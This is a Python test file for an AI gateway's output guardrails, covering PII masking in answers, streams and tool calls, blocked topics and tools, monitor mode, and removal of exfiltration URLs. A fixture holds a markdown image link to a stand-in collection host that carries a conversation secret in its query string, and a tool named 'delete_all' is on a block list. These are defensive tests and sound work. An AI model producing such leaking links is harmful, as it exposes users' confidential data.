"""Guardrails on answers, through two running workers: masked and refused answers, and their records."""

from __future__ import annotations

import json
import threading
from typing import Any

import httpx2
import msgspec

from gateway.guardrails.output.masks import LINK_REMOVED
from gateway.guardrails.verdicts import VERDICTS, GuardrailVerdict
from tests.fakes.scripted import DONE, FINISH, ROLE, USAGE_CHUNK, Step, answer, chunk, completion, raw, stream
from tests.gateway.conftest import Routed
from tests.gateway.service import Gateway
from tests.gateway.wire import ENDPOINT, assert_closing_chunk, assert_error, body, read_stream
from tests.tables.cases import tabled

MAIL, CARD = "ada@example.org", "4242 4242 4242 4242"
SECRET = "the launch code is tangerine seventeen"
STOLEN = "https://collect.example/p.png?d=the+launch+code+is+tangerine+seventeen"
JSON_TYPE = {"content-type": "application/json"}


def guarded(routed: Routed, steps: list[Step], mode: str = "enforce", **checks: Any) -> Gateway:
    made, _ = routed({"guardrails": {"trust_mode": mode, **checks}}, openai=steps)
    return made


def verdicts(project: Gateway, response: Any) -> list[tuple[str, str, str, str]]:
    encoded = project.record(response).attributes.get(VERDICTS, "[]")
    found = msgspec.json.decode(encoded, type=list[GuardrailVerdict])
    return [(verdict.guardrail, verdict.stage, verdict.action, verdict.detail) for verdict in found]


def whole(message: dict[str, Any], **more: Any) -> Step:
    choice = {"index": 0, "message": {"role": "assistant", "content": None, **message}, "finish_reason": "stop", **more}
    return raw(200, json.dumps(completion(choices=[choice])).encode(), JSON_TYPE)


def streamed(*deltas: dict[str, Any]) -> Step:
    return stream(ROLE, *(chunk(delta) for delta in deltas), FINISH, USAGE_CHUNK, DONE)


def letters(text: str) -> Step:
    return streamed(*({"content": letter} for letter in text))


def recorded_response(project: Gateway, response: Any) -> str:
    (entry,) = project.service.entries(response.headers["x-request-id"])
    return entry.response.decode()


def call(arguments: str, name: str = "send", index: int = 0, **extra: Any) -> dict[str, Any]:
    return {"index": index, "id": f"c{index}", "type": "function", "function": {"name": name, "arguments": arguments}}


class TestWholeAnswers:
    def test_masks_every_text_of_a_message(self, routed: Routed) -> None:
        arguments = '{"to":"ada\\u0040example.org","card":4242424242424242}'
        message = {
            "content": f"Write to {MAIL}.",
            "refusal": f"not {CARD}",
            "reasoning_content": f"the user is {MAIL}",
            "tool_calls": [call(arguments)],
        }
        project = guarded(routed, [whole(message, logprobs={"content": []})], mask_output_pii=True)
        response = project.post(body())
        choice = response.json()["choices"][0]
        assert choice["message"]["content"] == "Write to [EMAIL]."
        assert choice["message"]["refusal"] == "not [CARD]"
        assert choice["message"]["reasoning_content"] == "the user is [EMAIL]"
        sent = json.loads(choice["message"]["tool_calls"][0]["function"]["arguments"])
        assert sent == {"to": "[EMAIL]", "card": "[CARD]"}
        assert choice["logprobs"] is None
        assert "example.org" not in recorded_response(project, response)
        assert verdicts(project, response) == [
            ("pii", "output", "masked", "email"),
            ("pii", "output", "masked", "card"),
        ]

    def test_passes_the_bytes_when_there_is_nothing_to_mask(self, routed: Routed) -> None:
        sent = json.dumps(completion("Nothing to see at 12:30.")).encode()
        project = guarded(routed, [raw(200, sent, JSON_TYPE)], mask_output_pii=True, block_exfiltration_urls=True)
        response = project.post(body())
        assert response.content == sent
        assert verdicts(project, response) == []

    def test_removes_addresses_that_carry_the_conversation(self, routed: Routed) -> None:
        text = f"Here: ![chart]({STOLEN}) and [docs](https://docs.example/start)."
        project = guarded(routed, [answer(text)], block_exfiltration_urls=True)
        response = project.post(
            body(messages=[{"role": "system", "content": SECRET}, {"role": "user", "content": "?"}])
        )
        content = response.json()["choices"][0]["message"]["content"]
        assert content == f"Here: ![chart]({LINK_REMOVED}) and [docs](https://docs.example/start)."
        assert verdicts(project, response) == [("exfiltration_url", "output", "masked", "image")]

    def test_leaves_addresses_to_tools_and_masks_what_looks_like_a_file(self, routed: Routed) -> None:
        message = {"content": f"data:text/plain,{MAIL}", "tool_calls": [call(json.dumps({"url": STOLEN}))]}
        project = guarded(routed, [whole(message)], mask_output_pii=True, block_exfiltration_urls=True)
        message = project.post(body(messages=[{"role": "user", "content": SECRET}])).json()["choices"][0]["message"]
        assert message["content"] == "data:text/plain,[EMAIL]"
        assert json.loads(message["tool_calls"][0]["function"]["arguments"]) == {"url": STOLEN}

    @tabled
    def test_refuses(self, routed: Routed, message: dict[str, Any], code: str, detail: str) -> None:
        checks: dict[str, Any] = {"blocked_output_topics": ["atom bomb"], "blocked_tools": ["delete_all"]}
        project = guarded(routed, [whole(message)], **checks)
        response = project.post(body())
        error_text = assert_error(response, 400, code, type="guardrail_error")
        assert "tom bomb" not in error_text.lower()
        record = project.record(response)
        assert (record.outcome, record.status_code, record.error_code) == ("error", 400, code)
        # The provider's bill is counted all the same; its answer is not stored.
        assert (record.prompt_tokens, record.completion_tokens) == (11, 7)
        assert recorded_response(project, response) == ""
        assert verdicts(project, response) == [(code, "output", "blocked", detail)]

    def test_only_records_in_monitor(self, routed: Routed) -> None:
        text = f"{MAIL} likes the atom bomb, ![x]({STOLEN})"
        checks = {"blocked_output_topics": ["atom bomb"], "mask_output_pii": True, "block_exfiltration_urls": True}
        project = guarded(routed, [answer(text)], "monitor", **checks)
        messages = [{"role": "user", "content": SECRET}]
        response = project.post(body(messages=messages))
        assert response.json()["choices"][0]["message"]["content"] == text
        expected = [
            ("blocked_topic", "output", "flagged", "atom bomb"),
            ("exfiltration_url", "output", "flagged", "image"),
            ("pii", "output", "flagged", "email"),
        ]
        assert sorted(verdicts(project, response)) == expected
        again = project.post(body(messages=messages, stream=True))
        assert read_stream(again.content).text == text
        assert sorted(verdicts(project, again)) == expected

    def test_leaves_answers_alone_when_off(self, routed: Routed) -> None:
        project = guarded(routed, [answer(f"It is {MAIL}")], "off", mask_output_pii=True)
        assert MAIL in project.post(body()).text


class TestStreams:
    def test_masks_what_is_split_anywhere(self, routed: Routed) -> None:
        text = f"Write to {MAIL}, or pay with {CARD}. Then wait for an answer, however long it may take to come."
        project = guarded(routed, [letters(text)], mask_output_pii=True)
        response = project.post(body(stream=True))
        output = read_stream(response.content)
        assert output.text == text.replace(MAIL, "[EMAIL]").replace(CARD, "[CARD]")
        assert output.chunks[0]["choices"][0]["delta"]["role"] == "assistant"
        assert len({part["id"] for part in output.chunks}) == 1
        assert_closing_chunk(output)
        recorded = recorded_response(project, response)
        assert "[EMAIL]" in recorded
        assert "4242" not in recorded
        assert verdicts(project, response) == [
            ("pii", "output", "masked", "email"),
            ("pii", "output", "masked", "card"),
        ]

    def test_keeps_calls_apart(self, routed: Routed) -> None:
        first, second = json.dumps({"to": MAIL, "é": 1}), json.dumps({"card": 4242424242424242, "note": "ok"})
        deltas = [{"tool_calls": [call("", index=0)]}, {"tool_calls": [call("", index=1)]}]
        for place in range(max(len(first), len(second))):
            for index, arguments in enumerate((first, second)):
                if arguments[place : place + 1]:
                    function = {"arguments": arguments[place]}
                    deltas.append({"tool_calls": [{"index": index, "function": function}]})
        project = guarded(routed, [streamed({"content": "Calling now"}, *deltas)], mask_output_pii=True)
        with project.openai().chat.completions.stream(
            model="openai/gpt-4o", messages=[{"role": "user", "content": "hi"}]
        ) as events:
            done = [event.content for event in events if event.type == "content.done"]
            message = events.get_final_completion().choices[0].message
        assert message.content == "Calling now"
        assert done == ["Calling now"]
        assert [json.loads(made.function.arguments) for made in message.tool_calls or []] == [
            {"to": "[EMAIL]", "é": 1},
            {"card": "[CARD]", "note": "ok"},
        ]

    def test_keeps_choices_apart(self, routed: Routed) -> None:
        def piece(index: int, text: str) -> bytes:
            part = json.loads(chunk({"content": text})[6:])
            part["choices"][0]["index"] = index
            return b"data: " + json.dumps(part).encode() + b"\n\n"

        pieces = [piece(index, letter) for letter in MAIL for index in (0, 1)]
        project = guarded(routed, [stream(ROLE, *pieces, FINISH, USAGE_CHUNK, DONE)], mask_output_pii=True)
        output = read_stream(project.post(body(stream=True, n=2)).content)
        texts = {0: "", 1: ""}
        for part in output.chunks:
            for choice in part["choices"]:
                texts[choice["index"]] += choice["delta"].get("content") or ""
        assert texts == {0: "[EMAIL]", 1: "[EMAIL]"}

    def test_refuses_with_a_status_while_nothing_was_sent(self, routed: Routed) -> None:
        project = guarded(routed, [letters("atom bomb.")], blocked_output_topics=["atom bomb"])
        response = project.post(body(stream=True))
        assert_error(response, 400, "blocked_topic", type="guardrail_error")
        assert recorded_response(project, response) == ""

    def test_breaks_off_with_an_error_once_something_was_sent(self, routed: Routed) -> None:
        passed_on = threading.Event()
        steps = stream(ROLE, chunk({"content": "It was an atom "}), passed_on, chunk({"content": "bomb."}), end="hang")
        project = guarded(routed, [steps], blocked_output_topics=["atom bomb"])
        received = b""
        url = project.service.base_url() + ENDPOINT
        with project.client.stream("POST", url, json=body(stream=True), headers=project.headers) as response:
            for piece in response.iter_bytes():
                received += piece
                if b"It was an" in received:
                    passed_on.set()
        output = read_stream(received)
        assert output.text == "It was an "
        (error,) = output.errors
        assert (error["type"], error["code"]) == ("guardrail_error", "blocked_topic")
        record = project.record(response)
        assert (record.status_code, record.error_code, record.tokens_estimated) == (400, "blocked_topic", True)
        assert "atom" not in recorded_response(project, response)

    def test_refuses_a_call_before_its_name_is_out(self, routed: Routed) -> None:
        made = streamed(
            {"tool_calls": [call("", "delete_all")]}, {"tool_calls": [{"index": 0, "function": {"arguments": "{}"}}]}
        )
        project = guarded(routed, [made], blocked_tools=["delete_all"])
        assert_error(project.post(body(stream=True)), 400, "blocked_tool", type="guardrail_error")

    def test_removes_addresses_from_streams(self, routed: Routed) -> None:
        text = f"Here: ![chart]({STOLEN}) and more."
        project = guarded(routed, [letters(text)], block_exfiltration_urls=True)
        response = project.post(body(messages=[{"role": "user", "content": SECRET}], stream=True))
        assert read_stream(response.content).text == text.replace(STOLEN, LINK_REMOVED)
        assert "collect.example" not in recorded_response(project, response)

    def test_events_pass_as_their_bytes_when_there_is_nothing_to_hold(self, routed: Routed) -> None:
        events = [chunk({"content": "Hello "}), chunk({"content": "there "})]
        project = guarded(routed, [stream(ROLE, *events, FINISH, USAGE_CHUNK, DONE)], mask_output_pii=True)
        received = project.post(body(stream=True)).content
        assert all(event in received for event in events)

    def test_the_cache_keeps_what_was_sent(self, routed: Routed) -> None:
        project = guarded(routed, [letters(f"It is {MAIL}.")], mask_output_pii=True)

        def ask() -> httpx2.Response:
            return project.post(body(stream=True), headers={"cache-control": "max-age=60"})

        first = ask()
        again = project.service.until(ask, lambda one: one.headers["x-svc-cache"] == "hit")
        assert again.headers["x-svc-cache"] == "hit"
        assert read_stream(again.content).text == read_stream(first.content).text == "It is [EMAIL]."
